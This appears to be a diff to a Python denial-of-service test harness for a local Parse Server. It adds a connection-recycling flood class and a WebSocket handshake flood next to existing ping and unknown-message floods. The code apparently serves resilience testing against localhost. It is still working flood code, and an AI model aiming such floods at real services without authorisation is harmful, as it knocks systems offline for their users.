@@ -70,10 +70,25 @@ class Flood:
         return self.statuses
 
 
-def flood(data, count, **settings):
+class Again(Flood):
+    """Connections that send once and read the beginning of the response. New connections then replace them."""
+
+    def _step(self, key, events):
+        if not events & selectors.EVENT_READ:
+            return super()._step(key, events)
+        try:
+            self._note(key.fileobj.recv(PIECE)[9:12].decode() or "closed")
+        except OSError:
+            self._note("closed")
+        self.selector.unregister(key.fileobj)
+        key.fileobj.close()
+        self._add(key.data[0])
+
+
+def flood(data, count, kind=Flood, **settings):
     """Returns an attack with `count` connections. `count` can be a function of the number of senders."""
     def send(_, port, senders):
-        return Flood(port, count(senders) if callable(count) else count, senders, data, **settings).run()
+        return kind(port, count(senders) if callable(count) else count, senders, data, **settings).run()
     return send
 
 
@@ -115,6 +130,9 @@ def slow_then(rest):
     return request("POST", "/functions/slow", {}) + rest
 
 
+UPGRADE = request("GET", "", headers={
+    "Upgrade": "websocket", "Connection": "Upgrade", "Sec-WebSocket-Version": 13,
+    "Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ=="})
 PING = b"\x89\x80" + bytes(4)
 UNKNOWN = frame({"op": "x"})
 HEAD = f" HTTP/1.1\r\nHost: localhost\r\nX-Parse-Application-Id: {APPLICATION_ID}\r\n\r\n".encode()
@@ -144,6 +162,7 @@ def attacks(attack, save, save_little):
     found = {}
     found["pings"] = attack(flood(PING * 10_000, few, open=upgraded))
     found["unknown messages"] = attack(flood(UNKNOWN * 4_000, few, open=upgraded))
+    found["handshakes"] = attack(flood(UPGRADE, some, Again, endless=False))
     for name in PROXIES:
         found[f"pings, {name}"] = attack(through(name, PING * 10_000, 16))
         found[f"unknown messages, {name}"] = attack(through(name, UNKNOWN * 4_000, 16))
